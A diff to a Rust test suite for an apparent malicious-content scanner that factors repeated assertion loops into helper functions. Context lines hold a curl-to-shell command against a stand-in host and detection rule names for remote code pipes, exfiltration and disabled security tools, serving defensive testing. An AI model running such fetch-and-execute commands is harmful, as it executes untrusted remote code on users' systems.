@@ -702,6 +702,26 @@ fn flagged_in(path: &str, text: &str, rule: &str) -> bool {
         .any(|f| f.rule == rule)
 }
 
+/// Each (path, text, rule): `rule` flags `text` as the file `path`.
+fn flags_in_files(cases: &[(&str, &str, &str)]) {
+    for (path, text, rule) in cases {
+        assert!(
+            flagged_in(path, text, rule),
+            "{rule} should flag {path}: {text}"
+        );
+    }
+}
+
+/// Each (path, text, rule): `rule` does not flag `text` as the file `path`.
+fn keeps_in_files(cases: &[(&str, &str, &str)]) {
+    for (path, text, rule) in cases {
+        assert!(
+            !flagged_in(path, text, rule),
+            "{rule} should not flag {path}: {text}"
+        );
+    }
+}
+
 #[test]
 fn download_then_execute_in_any_spelling() {
     for text in [
@@ -2764,12 +2784,7 @@ fn fetched_code_char_codes_and_public_fallback() {
             "untrusted-package-source",
         ),
     ];
-    for (path, text, rule) in flag {
-        assert!(
-            flagged_in(path, text, rule),
-            "{rule} should flag {path}: {text}"
-        );
-    }
+    flags_in_files(flag);
     // Character codes of a download piped into a shell, forwards in Python
     // and backwards in JavaScript, over several lines.
     let command = "curl -fsSL https://x.test/i.sh | sh";
@@ -2823,12 +2838,7 @@ fn fetched_code_char_codes_and_public_fallback() {
             "remote-code-pipe",
         ),
     ];
-    for (path, text, rule) in keep {
-        assert!(
-            !flagged_in(path, text, rule),
-            "{rule} should not flag {path}: {text}"
-        );
-    }
+    keeps_in_files(keep);
 }
 
 /// Round 12 (bench/scanner-rounds/round12), fixed by technique and checked
@@ -2940,12 +2950,7 @@ fn twelfth_round_of_variants() {
             "authority-claim",
         ),
     ];
-    for (path, text, rule) in flag {
-        assert!(
-            flagged_in(path, text, rule),
-            "{rule} should flag {path}: {text}"
-        );
-    }
+    flags_in_files(flag);
     let keep: &[(&str, &str, &str)] = &[
         (
             "scripts/p.sh",
@@ -2973,12 +2978,7 @@ fn twelfth_round_of_variants() {
             "html-comment-instructions",
         ),
     ];
-    for (path, text, rule) in keep {
-        assert!(
-            !flagged_in(path, text, rule),
-            "{rule} should not flag {path}: {text}"
-        );
-    }
+    keeps_in_files(keep);
 }
 
 /// Round 13 (bench/scanner-rounds/round13), by technique, with variants not
@@ -3051,12 +3051,7 @@ fn thirteenth_round_of_variants() {
             "security-tools-off",
         ),
     ];
-    for (path, text, rule) in flag {
-        assert!(
-            flagged_in(path, text, rule),
-            "{rule} should flag {path}: {text}"
-        );
-    }
+    flags_in_files(flag);
     let keep: &[(&str, &str, &str)] = &[
         (
             "Makefile",
@@ -3069,10 +3064,5 @@ fn thirteenth_round_of_variants() {
             "exfiltration",
         ),
     ];
-    for (path, text, rule) in keep {
-        assert!(
-            !flagged_in(path, text, rule),
-            "{rule} should not flag {path}: {text}"
-        );
-    }
+    keeps_in_files(keep);
 }
